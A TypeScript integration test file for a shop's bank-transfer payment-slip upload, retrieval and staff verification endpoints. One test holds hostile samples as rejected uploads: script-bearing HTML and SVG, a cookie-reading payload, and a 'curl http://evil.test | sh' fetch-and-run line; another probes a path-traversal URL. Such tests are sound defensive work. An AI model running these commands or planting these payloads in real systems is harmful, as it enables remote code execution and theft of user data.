import fs from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_SHOP_EMAIL } from '../../config/integration-settings';
import { AuditEntryModel } from '../../db/models';
import { startSmtpSink, type SmtpSink } from '../mail/testing/smtp-sink';
import { createUser, type SignedIn } from '../../test/factories';
import { apiError, clientFor, startTestApp, type TestApp } from '../../test/test-app';
import { orderRow, placeOrder } from './testing/payment-fixtures';

let sink: SmtpSink;
let app: TestApp;
let admin: SignedIn;
let png: Buffer;

const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
);

beforeAll(async () => {
  sink = await startSmtpSink();
  app = await startTestApp({ integrations: { smtpUrl: sink.url } });
  admin = await createUser(app, { role: 'admin' });
  png = await sharp({ create: { width: 4, height: 3, channels: 3, background: '#2a6' } })
    .png()
    .toBuffer();
});
afterAll(async () => {
  await app.close();
  await sink.close();
});

const slipsDir = () => path.join(app.dataDir, 'slips');
const storedSlips = () => (fs.existsSync(slipsDir()) ? fs.readdirSync(slipsDir()) : []);

const upload = (who: SignedIn, orderID: string, bytes: Buffer, name: string, type: string) =>
  clientFor(app, who).payment.uploadSlip(
    orderID,
    new Blob([new Uint8Array(bytes)], { type }),
    name,
  );

describe('POST /api/order/:orderID/payment-slip', () => {
  it('takes a PNG from the owner: awaiting verification, stored privately, fetched by owner and staff', async () => {
    const { shopper, order } = await placeOrder(app, 'bank-transfer');
    const before = Date.now();
    const answer = await upload(shopper, order.orderID, png, 'slip.png', 'image/png');
    expect(answer.order.paymentStatus).toBe('awaiting-verification');
    expect(answer.order.hasPaymentSlip).toBe(true);
    expect(answer.message).toMatch(/slip/i);

    const row = await orderRow(order.orderID);
    expect(row.slipType).toBe('image/png');
    expect(row.slipUploadedAt?.getTime()).toBeGreaterThanOrEqual(before - 1000);
    expect(row.paymentChangedAt?.getTime()).toBeGreaterThanOrEqual(before - 1000);
    const key = row.slipKey ?? '';
    expect(storedSlips()).toContain(key);
    expect(fs.readFileSync(path.join(slipsDir(), key))).toEqual(png);

    for (const who of [shopper, admin]) {
      const api = clientFor(app, who);
      const blob = await api.payment.slip(order.orderID);
      expect(Buffer.from(await blob.arrayBuffer())).toEqual(png);
      const { headers } = api.lastAnswer();
      expect(headers.get('content-type')).toBe('image/png');
      expect(headers.get('cache-control')).toBe('private, no-store');
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('content-disposition')).toMatch(/^inline/);
    }
  });

  it('mails the shop that a slip waits, linking to the order, answering to the shopper', async () => {
    const { shopper, order } = await placeOrder(app, 'bank-transfer');
    await upload(shopper, order.orderID, png, 'slip.png', 'image/png');
    const mail = await sink.waitFor(
      (m) =>
        m.subject.includes(`order ${order.orderID}`) && m.subject.startsWith('Bank slip to verify'),
    );
    expect(mail.to).toEqual([DEFAULT_SHOP_EMAIL]);
    expect(mail.headers.get('reply-to')).toContain(shopper.user.email);
    expect(mail.text).toContain(`/admin/orders?order=${order.orderID}`);
  });

  it('takes a PDF, and a new slip replaces the one waiting', async () => {
    const { shopper, order } = await placeOrder(app, 'bank-transfer');
    await upload(shopper, order.orderID, png, 'first.png', 'image/png');
    const firstKey = (await orderRow(order.orderID)).slipKey;
    const { order: after } = await upload(
      shopper,
      order.orderID,
      PDF,
      'receipt.pdf',
      'application/pdf',
    );
    expect(after.paymentStatus).toBe('awaiting-verification');
    const row = await orderRow(order.orderID);
    expect(row.slipType).toBe('application/pdf');
    expect(storedSlips()).not.toContain(firstKey);
    const blob = await clientFor(app, shopper).payment.slip(order.orderID);
    expect(Buffer.from(await blob.arrayBuffer())).toEqual(PDF);
  });

  it.each([
    [
      'an HTML page named .png',
      '<!doctype html><html><body><script>alert(1)</script></body></html>',
    ],
    [
      'an SVG with a script',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
    ],
    ['a script', '#!/bin/sh\ncurl http://evil.test | sh\n'],
    ['JavaScript', 'fetch("/api/user").then((r) => r.text()).then(alert);'],
  ])('refuses %s with 415 and stores nothing', async (_what, content) => {
    const { shopper, order } = await placeOrder(app, 'bank-transfer');
    const before = storedSlips();
    const error = await apiError(
      upload(shopper, order.orderID, Buffer.from(content), 'slip.png', 'image/png'),
    );
    expect(error.status).toBe(415);
    expect(storedSlips()).toEqual(before);
    const row = await orderRow(order.orderID);
    expect(row.paymentStatus).toBe('unpaid');
    expect(row.slipKey).toBeNull();
  });

  it('answers 404 to anyone but the owner, staff included, and 401 without a token', async () => {
    const { order } = await placeOrder(app, 'bank-transfer');
    const stranger = await createUser(app);
    for (const who of [stranger, admin]) {
      const error = await apiError(upload(who, order.orderID, png, 'slip.png', 'image/png'));
      expect(error.status).toBe(404);
    }
    const form = new FormData();
    form.append('file', new Blob([new Uint8Array(png)], { type: 'image/png' }), 'slip.png');
    const anonymous = await fetch(`${app.baseUrl}/api/order/${order.orderID}/payment-slip`, {
      method: 'POST',
      body: form,
    });
    expect(anonymous.status).toBe(401);
    expect((await orderRow(order.orderID)).slipKey).toBeNull();
  });

  it('answers 409 for cash on delivery, card, a paid transfer and a cancelled one', async () => {
    const cod = await placeOrder(app, 'cod');
    const card = await placeOrder(app, 'card');
    const paid = await placeOrder(app, 'bank-transfer');
    await (await orderRow(paid.order.orderID)).update({ paymentStatus: 'paid' });
    const cancelled = await placeOrder(app, 'bank-transfer');
    await clientFor(app, admin).order.setStatus(cancelled.order.orderID, 'Cancelled');
    for (const { shopper, order } of [cod, card, paid, cancelled]) {
      const error = await apiError(upload(shopper, order.orderID, png, 'slip.png', 'image/png'));
      expect(error.status).toBe(409);
      expect((await orderRow(order.orderID)).slipKey).toBeNull();
    }
  });

  it('answers 413 for a slip over 10 MB', async () => {
    const { shopper, order } = await placeOrder(app, 'bank-transfer');
    const big = Buffer.concat([png, Buffer.alloc(10 * 1024 * 1024)]);
    const error = await apiError(upload(shopper, order.orderID, big, 'huge.png', 'image/png'));
    expect(error.status).toBe(413);
    expect((await orderRow(order.orderID)).slipKey).toBeNull();
  });
});

describe('GET /api/order/:orderID/payment-slip', () => {
  it('is never reachable without a token, by another shopper, or under /uploads', async () => {
    const { shopper, order } = await placeOrder(app, 'bank-transfer');
    await upload(shopper, order.orderID, png, 'slip.png', 'image/png');
    const key = (await orderRow(order.orderID)).slipKey ?? '';

    const anonymous = await app.call('GET', `/api/order/${order.orderID}/payment-slip`);
    expect(anonymous.status).toBe(401);
    const stranger = await createUser(app);
    const other = await apiError(clientFor(app, stranger).payment.slip(order.orderID));
    expect(other.status).toBe(404);
    for (const guess of [
      `/uploads/${key}`,
      `/uploads/slips/${key}`,
      `/uploads/..%2Fslips%2F${key}`,
    ]) {
      const res = await fetch(app.baseUrl + guess);
      expect(res.status).toBe(404);
      expect(Buffer.from(await res.arrayBuffer()).includes(png)).toBe(false);
    }
  });

  it('answers 404 when the order has no slip', async () => {
    const { shopper, order } = await placeOrder(app, 'bank-transfer');
    expect((await apiError(clientFor(app, shopper).payment.slip(order.orderID))).status).toBe(404);
  });
});

describe('POST /api/order/:orderID/payment (staff verdict)', () => {
  it('lets staff verify a slip: paid, audited, and the shopper is mailed', async () => {
    const { shopper, order } = await placeOrder(app, 'bank-transfer');
    await upload(shopper, order.orderID, png, 'slip.png', 'image/png');
    const { order: after, message } = await clientFor(app, admin).payment.review(order.orderID, {
      action: 'verify',
      note: 'Seen in the account',
    });
    expect(message).toBe('Payment verified');
    expect(after.paymentStatus).toBe('paid');
    expect((await clientFor(app, shopper).order.get(order.orderID)).paymentStatus).toBe('paid');

    const entry = await AuditEntryModel.findOne({
      where: { action: 'order.payment', entityId: order.orderID },
    });
    expect(entry?.actorEmail).toBe(admin.user.email);
    expect(JSON.parse(entry?.before ?? '{}')).toMatchObject({
      paymentStatus: 'awaiting-verification',
    });
    expect(JSON.parse(entry?.after ?? '{}')).toMatchObject({ paymentStatus: 'paid' });

    const mail = await sink.waitFor(
      (m) => m.to.includes(shopper.user.email) && /received/.test(m.subject),
    );
    expect(mail.subject).toBe(`Payment received for order ${order.orderID}`);
    expect(mail.text).toContain(order.orderID);
    // Like every order mail: the lines with their sizes, one next step, both parts.
    expect(mail.text).toMatch(/\(12x18 in\) × 1 @ LKR/);
    expect(mail.text).toMatch(/What happens next: nothing to do/);
    expect(mail.html).toContain('12x18 in');
  });

  it('lets staff reject with a note: unpaid, the note mailed with what to do next', async () => {
    const { shopper, order } = await placeOrder(app, 'bank-transfer');
    await upload(shopper, order.orderID, PDF, 'slip.pdf', 'application/pdf');
    const note = 'The slip shows LKR 1,000 but the order is more; please send the rest.';
    const { order: after } = await clientFor(app, admin).payment.review(order.orderID, {
      action: 'reject',
      note,
    });
    expect(after.paymentStatus).toBe('unpaid');
    expect(after.paymentNote).toBe(note);
    const mail = await sink.waitFor(
      (m) => m.to.includes(shopper.user.email) && /could not confirm/.test(m.subject),
    );
    expect(mail.text).toContain(note);
    expect(mail.text).toMatch(/What happens next: please check the transfer and upload a new slip/);
    expect(mail.text).toMatch(/\(12x18 in\) × 1 @ LKR/);
    expect(mail.html).toContain(note);
    // The shopper may send another slip.
    const again = await upload(shopper, order.orderID, png, 'slip.png', 'image/png');
    expect(again.order.paymentStatus).toBe('awaiting-verification');
  });

  it('refuses shoppers, the owner included, with 403 and changes nothing', async () => {
    const { shopper, order } = await placeOrder(app, 'bank-transfer');
    await upload(shopper, order.orderID, png, 'slip.png', 'image/png');
    const error = await apiError(
      clientFor(app, shopper).payment.review(order.orderID, { action: 'verify' }),
    );
    expect(error.status).toBe(403);
    expect((await orderRow(order.orderID)).paymentStatus).toBe('awaiting-verification');
  });

  it('answers 400 for a reject without a note or an unknown action, 409 when nothing waits', async () => {
    const { shopper, order } = await placeOrder(app, 'bank-transfer');
    const noNote = await apiError(
      clientFor(app, admin).payment.review(order.orderID, { action: 'reject', note: ' ' }),
    );
    expect(noNote.status).toBe(400);
    const unknown = await app.call('POST', `/api/order/${order.orderID}/payment`, {
      token: admin.token,
      body: { action: 'refund' },
    });
    expect(unknown.status).toBe(400);
    // No slip waits to be rejected, and a card order is settled by the gateway alone.
    const nothing = await apiError(
      clientFor(app, admin).payment.review(order.orderID, { action: 'reject', note: 'No' }),
    );
    expect(nothing.status).toBe(409);
    const card = await placeOrder(app, 'card', { shopper });
    const cardVerify = await apiError(
      clientFor(app, admin).payment.review(card.order.orderID, { action: 'verify' }),
    );
    expect(cardVerify.status).toBe(409);
    expect((await orderRow(card.order.orderID)).paymentStatus).toBe('unpaid');
  });
});
